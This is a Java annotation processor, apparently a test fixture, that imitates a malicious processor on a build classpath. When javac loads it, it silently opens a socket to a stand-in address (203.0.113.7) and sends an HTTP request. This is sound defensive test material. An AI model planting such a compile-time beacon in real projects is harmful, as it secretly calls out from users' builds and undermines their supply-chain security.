// An annotation processor runs inside javac at compile time. This one does what a malicious
// processor on the build's classpath does: it phones home (to the test namespace's address).
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.Set;
import javax.annotation.processing.AbstractProcessor;
import javax.annotation.processing.ProcessingEnvironment;
import javax.annotation.processing.RoundEnvironment;
import javax.annotation.processing.SupportedAnnotationTypes;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;

@SupportedAnnotationTypes("*")
public class Beacon extends AbstractProcessor {
    @Override
    public synchronized void init(ProcessingEnvironment env) {
        super.init(env);
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress("203.0.113.7", 80), 5000);
            OutputStream o = s.getOutputStream();
            o.write("GET /p HTTP/1.0\r\n\r\n".getBytes());
        } catch (Exception e) {
            // offline: nothing
        }
    }

    @Override
    public SourceVersion getSupportedSourceVersion() {
        return SourceVersion.latestSupported();
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        return false;
    }
}
